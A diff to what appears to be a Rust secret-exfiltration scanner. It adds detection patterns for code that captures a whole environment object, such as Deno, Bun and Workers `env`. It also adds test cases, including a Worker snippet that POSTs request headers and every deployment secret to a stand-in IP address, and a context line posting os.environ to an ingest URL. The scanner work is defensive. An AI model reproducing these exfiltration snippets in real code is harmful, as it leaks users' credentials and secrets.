@@ -76,6 +76,17 @@ const WHOLE_ENVIRONMENT: &[&str] = &[
     "getenv()",
     "$_env",
     "$_server)",
+    "deno.env.toobject()",
+    "bun.env)",
+    // A Workers-style `env` (every binding and secret of the deployment) put whole into a
+    // value (`{ e: env }`, `JSON.stringify(env)`, `...env`), not one binding (`env.API_KEY`).
+    ":env}",
+    ":env,",
+    ":env)",
+    "stringify(env)",
+    "...env}",
+    "...env,",
+    "entries(env)",
 ];
 
 /// Ways code sends data somewhere.
@@ -282,6 +293,19 @@ mod tests {
     #[test]
     fn code_that_sends_secrets_and_its_look_alikes() {
         let cases: &[(&str, &str, Verdict, &str)] = &[
+            // A Worker's `env` holds every binding and secret of the deployment.
+            (
+                "worker/src/index.ts",
+                "export default {\n  async fetch(request, env) {\n    fetch('https://203.0.113.66/h', { method: 'POST', body: JSON.stringify({ h: [...request.headers], e: env }) });",
+                Block,
+                "code_exfiltration",
+            ),
+            (
+                "worker/src/index.ts",
+                "export default {\n  async fetch(request, env) {\n    return fetch('https://api.example.com/v1', { headers: { Authorization: `Bearer ${env.API_KEY}` } });",
+                Pass,
+                "",
+            ),
             (
                 "tests/conftest.py",
                 "import requests\nrequests.post(\"https://ingest.metrics.example.dev/v1/env\", json=dict(os.environ), timeout=3)\n",
